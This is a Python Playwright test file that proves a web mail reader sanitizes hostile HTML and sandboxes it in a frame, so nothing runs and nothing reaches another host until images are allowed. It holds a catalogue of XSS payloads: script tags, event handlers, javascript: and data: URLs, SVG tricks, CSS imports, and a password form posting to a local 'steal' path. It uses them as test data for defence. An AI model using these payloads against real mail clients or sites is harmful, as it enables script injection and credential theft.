"""Hostile HTML mail opened in the reader: nothing runs, nothing leaves for another host until
"Show images", and then only the images. Proven in a real Chromium with a window flag the mail
would set, a console listener, the dialog event, and a real "remote" web server that records
every request reaching it.

Why a real server: Playwright does not report the requests of a sandboxed ``srcdoc`` frame
(neither ``page.on("request")`` nor ``route`` sees them; checked on this Chromium), so the
remote host is a recording HTTP server on another loopback address (127.0.0.2), which the app
(on 127.0.0.1) treats like any other host. Requests of the page itself are watched by ``route``.
"""

from __future__ import annotations

import asyncio
import base64
import datetime as dt
import http.server
import socketserver
import threading
from email.message import EmailMessage
from email.utils import make_msgid
from urllib.parse import urlsplit

import aiohttp
import pytest
from playwright.async_api import expect

from tests.ui.conftest import screenshot
from tests.ui.mail_fixtures import dovecot, mail_stack, mailbox, oauth_provider, smtp_sink  # noqa: F401 - fixtures

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAYAAABytg0kAAAAEklEQVR42mP8z8DwnwEIGGEMAD7QA/0nA6f8AAAAAElFTkSuQmCC"
)  # 2x2
FLAG = "window.__pwned = (window.__pwned || 0) + 1; console.log('PWNED')"


class RemoteServer:
    """A web server on 127.0.0.2 answering a small PNG to every GET; ``hits`` records each request
    as (path, headers)."""

    def __init__(self):
        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 - the stdlib's name
                hits.append((self.path, dict(self.headers)))
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", str(len(PNG)))
                self.end_headers()
                self.wfile.write(PNG)

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args):
                pass

        self.server = socketserver.ThreadingTCPServer(("127.0.0.2", 0), Handler)
        self.server.daemon_threads = True
        self.base = f"http://127.0.0.2:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def paths(self) -> list[str]:
        return [path for path, _ in self.hits]

    def stop(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def remote():
    server = RemoteServer()
    yield server
    server.stop()


def hostile(base: str) -> dict[str, str]:
    """One hostile HTML body per kind; every URL points at the remote server ``base``."""
    return {
        "Script tags": f"""<p>Script tags below.</p><script>{FLAG}</script>
            <script src="{base}/evil.js"></script><noscript><p title="</noscript><img src=x onerror="{FLAG}">"></p></noscript>""",
        "Event handlers": f"""<p>Handlers below.</p><img src="x" onerror="{FLAG}"><div onmouseover="{FLAG}" onclick="{FLAG}">hover me</div>
            <body onload="{FLAG}"><details open ontoggle="{FLAG}"><summary>toggle</summary></details>
            <video><source onerror="{FLAG}"></video><input autofocus onfocus="{FLAG}">""",
        "Javascript URLs": f"""<p>Links below.</p><a id="js" href="javascript:{FLAG}">click me</a>
            <a href="JaVaScRiPt:{FLAG}">mixed case</a><a href="data:text/html,&lt;script&gt;{FLAG}&lt;/script&gt;">data</a>
            <a href="{base}/landing">a real link</a>""",
        "SVG": f"""<p>SVG below.</p><svg onload="{FLAG}"><script>{FLAG}</script><animate onbegin="{FLAG}" attributeName="x" dur="1s"/>
            <image href="{base}/svg.png"/></svg><math><mtext><script>{FLAG}</script></mtext></math>
            <img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">""",
        "CSS expressions": f"""<p>Styles below.</p><div style="width: expression({FLAG}); background: url('{base}/bg.png')">styled</div>
            <style>@import url({base}/evil.css); body {{ background: url({base}/body.png) }}</style>
            <table background="{base}/table.png"><tr><td>cell</td></tr></table>
            <link rel="stylesheet" href="{base}/sheet.css">""",
        "Forms": f"""<p>A form below.</p><form action="{base}/steal" method="post"><input name="password" type="password">
            <button formaction="{base}/steal2">Log in</button></form>
            <iframe src="{base}/frame"></iframe><object data="{base}/obj"></object><embed src="{base}/emb">""",
        "Meta refresh": f"""<meta http-equiv="refresh" content="0;url={base}/phish"><base href="{base}/">
            <p>Meta refresh above.</p><a href="relative/path">relative</a>""",
        "Remote images": f"""<p>A tracking pixel and a picture below.</p><img src="{base}/pixel.png?u=alice" width="1" height="1">
            <img src="{base}/photo.jpg" alt="A photo">""",
    }


KINDS = {
    "Script tags": "Script tags below.",
    "Event handlers": "hover me",
    "Javascript URLs": "click me",
    "SVG": "SVG below.",
    "CSS expressions": "styled",
    "Forms": "A form below.",
    "Meta refresh": "Meta refresh above.",
    "Remote images": "A tracking pixel",
}


async def seed_conversation(mailbox, base: str) -> None:
    """One conversation, one hostile message per kind, oldest first; and a plain-text one."""
    now = dt.datetime.now(dt.timezone.utc)
    previous = None
    for i, (kind, html) in enumerate(hostile(base).items()):
        previous = mailbox.deliver(
            subject="Hostile mail",
            frm="Mallory <mallory@evil.example>",
            html=html,
            text=f"{kind} (text part)",
            in_reply_to=previous,
            date=now - dt.timedelta(minutes=len(KINDS) - i),
        )
    mailbox.deliver(
        subject="Plain text tricks",
        frm="Mallory <mallory@evil.example>",
        text=f"<script>{FLAG}</script> and <b>not bold</b>, see {base}/page?a=1&b=2.",
    )
    await mailbox.link()


class Watch:
    """What the page does that hostile mail might cause: console lines, dialogs, pop-ups, and the
    page's own requests to any host but the app's."""

    def __init__(self, page):
        self.page = page
        self.foreign: list[str] = []
        self.console: list[str] = []
        self.dialogs: list[str] = []
        self.popups: list[str] = []
        page.on("console", lambda m: self.console.append(m.text))
        page.on("dialog", self._dialog)
        page.on("popup", lambda p: self.popups.append(p.url))

    async def _dialog(self, dialog):
        self.dialogs.append(dialog.message)
        await dialog.dismiss()

    async def route(self, route):
        if urlsplit(route.request.url).hostname not in ("127.0.0.1", None) and route.request.url.startswith("http"):
            self.foreign.append(route.request.url)
        await route.continue_()

    async def flags(self) -> list:
        """window.__pwned in the page and in every frame (None where nothing set it). DevTools
        evaluates even where the frame's own scripts may not run, so a flag set would be seen."""
        return [await frame.evaluate("() => window.__pwned ?? null") for frame in self.page.frames]

    async def origins(self) -> list[str]:
        """The origin of every message frame: "null" (opaque) when sandboxed without same-origin."""
        return [await f.evaluate("() => window.origin") for f in self.page.frames if f.url == "about:srcdoc"]

    def pwned(self) -> list[str]:
        return [line for line in self.console if "PWNED" in line]


async def test_hostile_html_runs_nothing_and_loads_nothing_remote(page, mailbox, remote):
    await seed_conversation(mailbox, remote.base)
    watch = Watch(page)
    await page.context.route("**/*", watch.route)
    await mailbox.sign_in(page)
    await page.locator(".mail-row", has_text="Hostile mail").locator("a").click()
    messages = page.locator(".mail-message")
    await expect(messages).to_have_count(len(KINDS))
    for i in range(len(KINDS) - 1):  # open every message (the newest is open already)
        await messages.nth(i).locator(".mail-message-head").click()
    frames = page.locator(".mail-message iframe")
    await expect(frames).to_have_count(len(KINDS))
    for i, text in enumerate(KINDS.values()):
        await expect(messages.nth(i).frame_locator("iframe").locator("body")).to_contain_text(text)

    # every frame: sandboxed without scripts or same origin, a strict CSP, links to new tabs
    for i in range(len(KINDS)):
        frame = frames.nth(i)
        assert await frame.get_attribute("sandbox") == "allow-popups allow-popups-to-escape-sandbox"
        srcdoc = await frame.get_attribute("srcdoc")
        assert "Content-Security-Policy" in srcdoc and "default-src 'none'" in srcdoc and "script-src 'none'" in srcdoc
        assert '<base target="_blank">' in srcdoc
        body = messages.nth(i).frame_locator("iframe")
        # (the head holds our own <style> and CSP <meta>; nothing of the mail's)
        for tag in (
            "script",
            "svg",
            "math",
            "form",
            "input",
            "iframe",
            "object",
            "embed",
            "body style",
            "link",
            "meta[http-equiv='refresh']",
            "base[href]",
        ):
            await expect(body.locator(tag)).to_have_count(0)
        for anchor in await body.locator("a[href]").all():
            assert (await anchor.get_attribute("href")).startswith(("https://", "http://", "mailto:"))
            assert await anchor.get_attribute("rel") == "noopener noreferrer"
            assert await anchor.get_attribute("target") == "_blank"

    # poke at it as a person would: hover, click the neutered links, wait for a refresh
    handlers = messages.nth(1).frame_locator("iframe")
    await handlers.get_by_text("hover me").hover()
    await handlers.get_by_text("hover me").click()
    await messages.nth(2).frame_locator("iframe").get_by_text("click me").click()
    await messages.nth(2).frame_locator("iframe").get_by_text("mixed case").click()
    await page.wait_for_timeout(1500)
    assert page.url.startswith(mailbox.stack.base_url + "/admin/mail/thread/")
    assert all(
        f.url in ("about:srcdoc", "about:blank") or f.url.startswith(mailbox.stack.base_url) for f in page.frames
    )

    assert await watch.flags() == [None] * len(page.frames)
    assert await watch.origins() == ["null"] * len(KINDS)
    assert watch.pwned() == [] and watch.dialogs == [] and watch.popups == []
    assert remote.hits == [] and watch.foreign == [], (remote.paths(), watch.foreign)
    await messages.nth(len(KINDS) - 4).scroll_into_view_if_needed()
    await screenshot(page, "mail-hostile-1280", full_page=False)

    # the plain-text message shows its markup as text, with its link clickable
    await page.get_by_role("button", name="Back").click()
    await page.locator(".mail-row", has_text="Plain text tricks").locator("a").click()
    text_frame = page.locator(".mail-message.is-open").frame_locator("iframe")
    await expect(text_frame.locator("body")).to_contain_text("<script>")
    await expect(text_frame.locator("b")).to_have_count(0)
    await expect(text_frame.locator(f"a[href^='{remote.base}/page']")).to_have_count(1)
    assert remote.hits == []

    # "Show images": now, and only now, the images are asked for; never scripts, styles or forms
    await page.get_by_role("button", name="Back").click()
    await page.locator(".mail-row", has_text="Hostile mail").locator("a").click()
    last = page.locator(".mail-message").last
    await expect(last.get_by_text("Remote images are hidden")).to_be_visible()
    await last.get_by_role("button", name="Show images").click()
    await expect(last.get_by_text("Remote images are shown")).to_be_visible()
    for _ in range(50):
        if "/photo.jpg" in remote.paths() and any(p.startswith("/pixel.png") for p in remote.paths()):
            break
        await asyncio.sleep(0.1)
    assert "/pixel.png?u=alice" in remote.paths() and "/photo.jpg" in remote.paths(), remote.paths()
    assert set(remote.paths()) <= {"/pixel.png?u=alice", "/photo.jpg"}, remote.paths()
    for path, headers in remote.hits:  # no cookie, no referrer for the sender's server
        assert "Cookie" not in headers and "Referer" not in headers, (path, headers)
    assert await watch.flags() == [None] * len(page.frames)
    assert watch.pwned() == []
    assert page.errors == []


async def test_the_frame_alone_contains_unsanitized_html(page, mailbox, remote):
    """Defence in depth: HTML that never went through the server's sanitizer, put straight into
    the reader's frame, still runs nothing and fetches nothing (sandbox + CSP)."""
    await mailbox.link()
    remote.hits.clear()
    watch = Watch(page)
    await page.context.route("**/*", watch.route)
    await mailbox.sign_in(page)
    await expect(page.get_by_role("heading", name="Inbox")).to_be_visible()
    raw = "".join(hostile(remote.base).values())
    await page.evaluate(
        """async (raw) => {
        const { htmlFrame } = await import('/static/plugins/email_manager/frame.js');
        const f = htmlFrame(raw, { title: 'raw' });
        f.el.id = 'raw-frame';
        document.querySelector('.mail-main').prepend(f.el);
        f.measure();
    }""",
        raw,
    )
    frame = page.frame_locator("#raw-frame iframe")
    await expect(frame.locator("body")).to_contain_text("Script tags below.")
    await frame.get_by_text("hover me").hover()
    await frame.get_by_text("click me").click()
    await page.wait_for_timeout(1500)
    assert await watch.flags() == [None] * len(page.frames)
    assert watch.pwned() == [] and watch.dialogs == []
    # scripts, stylesheets, images, frames, objects, the form and the meta refresh: none reached
    # the remote server, nor did the measuring copy in the page ask for anything
    assert remote.hits == [] and watch.foreign == [], (remote.paths(), watch.foreign)


async def test_inline_images_show_through_signed_urls_without_a_cookie(page, mailbox):
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = "Dana <dana@corp.example>", mailbox.address, "Our new logo"
    msg["Message-ID"] = make_msgid(domain="corp.example")
    msg.set_content("Our new logo (see the HTML part).")
    msg.add_alternative(
        '<p>Our new logo:</p><img src="cid:logo@corp.example" alt="logo" width="2" height="2">', subtype="html"
    )
    msg.get_payload()[1].add_related(PNG, "image", "png", cid="<logo@corp.example>", filename="logo.png")
    mailbox.deliver_raw(msg.as_bytes())
    await mailbox.link()
    await mailbox.sign_in(page)
    await page.locator(".mail-row", has_text="Our new logo").locator("a").click()
    frame = page.locator(".mail-message.is-open").frame_locator("iframe")
    logo = frame.get_by_role("img", name="logo")
    await expect(logo).to_be_visible()
    for _ in range(50):  # loaded by the frame itself (the sized image is not in the measuring copy)
        if await logo.evaluate("img => img.complete && img.naturalWidth") == 2:
            break
        await asyncio.sleep(0.1)
    assert await logo.evaluate("img => img.naturalWidth") == 2
    src = await logo.evaluate("img => img.src")
    assert src.startswith(mailbox.stack.base_url + "/api/mailAttachments:inline?")
    assert await logo.evaluate("img => window.origin") == "null"  # the frame is opaque: no cookie of ours
    # the signed URL needs neither cookie nor token; a forged signature gets nothing
    async with aiohttp.ClientSession() as anonymous:
        async with anonymous.get(src) as answer:
            assert answer.status == 200 and answer.content_type == "image/png" and await answer.read() == PNG
        async with anonymous.get(src.replace("sig=", "sig=x")) as answer:
            assert answer.status == 404
    assert page.errors == []
